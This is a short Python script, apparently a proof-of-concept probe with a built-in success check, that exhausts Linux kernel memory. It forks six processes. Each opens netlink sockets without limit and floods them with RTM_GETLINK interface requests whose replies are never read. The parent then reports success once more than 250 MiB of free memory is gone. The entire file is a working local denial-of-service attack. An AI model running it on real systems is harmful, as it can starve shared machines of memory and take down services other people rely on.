"""Asks the kernel for the list of interfaces again and again, by sockets whose replies nobody reads."""

SUCCESS = "kernel memory beyond the limit"

# %%
import ctypes
import os
import socket
import struct
import time

QUESTION = struct.pack("=IHHIIBxHiII", 32, 18, 1, 1, 0, 0, 0, 1, 0, 0)  # RTM_GETLINK for the interface 1, lo


def free():
    """Memory of the machine that nobody has, in MiB."""
    told = (ctypes.c_ulong * 20)()
    ctypes.CDLL(None).sysinfo(told)
    return told[5] >> 20


before = free()
for _ in range(6):
    if os.fork() == 0:
        kept = []
        try:
            while True:
                kept.append(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW | socket.SOCK_NONBLOCK, 0))
                for _ in range(120):
                    kept[-1].sendto(QUESTION, (0, 0))
        except OSError as error:
            os.write(1, f"{len(kept)} sockets, then {error}\n".encode())
        time.sleep(100)
        os._exit(0)
held, began = 0, time.monotonic()
while time.monotonic() - began < 2.2 and held <= 250:
    time.sleep(0.1)
    held = before - free()
print("SUCCEEDED:" if held > 250 else "only", held, "MiB in replies; attempted")
